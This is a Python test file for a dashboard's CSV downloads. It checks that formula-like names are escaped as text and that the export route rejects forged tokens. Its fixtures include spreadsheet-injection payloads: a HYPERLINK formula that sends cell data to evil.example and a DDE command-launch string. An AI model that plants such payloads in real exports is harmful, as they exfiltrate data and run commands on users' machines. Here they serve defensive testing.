"""What the dashboard's download buttons serve: formula-like text arrives as text."""

import asyncio
import csv
import io
from pathlib import Path
from urllib.parse import urlencode, urlsplit

from starlette.requests import Request

from config.settings import get_settings
from core.enhancement.phase_progress import watch_phase_run
from core.enhancement.progress_pass import EXPORT_RUN
from core.flows.child_flow_service import CollectionChildFlowService
from core.flows.orchestrator import MasterFlowOrchestrator
from core.storage.unit_of_work import engagement_uow
from dashboard import export_download
from db.session import get_engine
from jobs.tasks import run_flow_phase
from tests.dashboard.conftest import HOLES, no_exceptions

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1)")


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def starts_like_a_formula(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]


def test_the_flow_pages_csv_downloads_write_formula_like_names_as_text(
    db, tenant, open_page, make_assets, downloaded
):
    assets = make_assets(tenant, len(FORMULAS), **HOLES)
    for asset, name in zip(assets, FORMULAS, strict=True):
        asset.name = name
    db.commit()
    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Formulas")
    service = CollectionChildFlowService(db, tenant)
    selected = [str(asset.id) for asset in assets]
    service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": selected})
    service.execute_phase(flow_id, "gap_analysis")
    service.execute_phase(flow_id, "questionnaire_generation")
    app = open_page(tenant, "flow", flow_id)
    no_exceptions(app)

    marked = {"'" + name for name in FORMULAS}
    for what, column in (
        ("gaps", "Asset"),
        ("questionnaires", "Asset"),
        ("assets", "Name"),
    ):
        rows = csv_rows(downloaded(app, f"export_{what}_csv"))
        assert rows and starts_like_a_formula(rows) == [], what
        assert {row[column] for row in rows} == marked, what


def test_the_audit_download_is_written_by_the_same_csv_writer(
    make_tenant, open_page, downloaded, db
):
    admin = make_tenant(role="admin")
    MasterFlowOrchestrator(db, admin).create_flow(flow_name=FORMULAS[0])
    app = open_page(admin, "admin")
    no_exceptions(app)

    content = downloaded(app, "admin_audit_csv")

    assert content.startswith(b"\xef\xbb\xbf")  # the byte-order mark that Excel needs
    [event] = csv_rows(content)
    assert event["Action"] == "Flow created" and FORMULAS[0] in event["Details"]
    assert starts_like_a_formula([event]) == []


def test_a_big_flows_file_is_prepared_by_a_worker_then_downloaded(
    db, tenant, open_page, flow_with_gaps, dispatcher, tmp_path, monkeypatch
):
    monkeypatch.setattr("core.flows.phase_runs.INLINE_SCAN_LIMIT", 1)
    monkeypatch.setenv("EXPORT_DIR", str(tmp_path))
    get_settings.cache_clear()
    flow_id = flow_with_gaps(tenant, count=2, name="Pick")
    app = open_page(tenant, "flow", flow_id)
    no_exceptions(app)
    assert not [button for button in app.get("download_button")]  # nothing built in the page
    app.button(key="prepare_export").click().run()  # the first file offered: gaps as CSV
    no_exceptions(app)
    [queued] = dispatcher.jobs
    assert queued["phase_name"] == "export" and app.button(key="prepare_export").disabled

    db.rollback()  # SQLite: the worker's session needs the write lock
    get_engine.cache_clear()  # the worker opens its sessions on this test's settings
    try:
        assert run_flow_phase(**queued) == "completed"
    finally:
        get_engine().dispose()
        get_engine.cache_clear()
    app.run()
    no_exceptions(app)
    [link] = app.get("link_button")  # the web process's download route, with this run's pass
    address = urlsplit(link.proto.url)
    assert address.path == "/_export"
    scope = {"type": "http", "method": "GET", "path": address.path, "headers": []}
    scope |= {"query_string": address.query.encode(), "client": ("198.51.100.9", 50000)}
    answer = asyncio.run(export_download.download(Request(scope)))
    assert answer.status_code == 200 and answer.headers["cache-control"] == "no-store"
    assert 'filename="pick-gaps.csv"' in answer.headers["content-disposition"]
    rows = csv_rows(Path(answer.path).read_bytes())
    assert len(rows) == 6 and len({row["Asset"] for row in rows}) == 2  # 3 holes each


def test_the_download_route_serves_only_a_genuine_export_pass_of_a_ready_file(
    tenant, flow_with_gaps, app_settings
):
    flow_id = flow_with_gaps(tenant, count=1)
    with engagement_uow(tenant) as uow:
        progress_pass = watch_phase_run(uow, flow_id)[1]
        export_pass = watch_phase_run(uow, flow_id, kind=EXPORT_RUN)[1]

    def status(token: str) -> int:
        scope = {"type": "http", "method": "GET", "path": "/_export", "headers": []}
        scope |= {"query_string": urlencode({"token": token}).encode(), "client": ("::1", 1)}
        return asyncio.run(export_download.download(Request(scope))).status_code

    assert status("forged") == 403
    assert status(progress_pass) == 403  # a pass to watch a phase run downloads nothing
    assert status(export_pass) == 404  # genuine, but nothing prepared
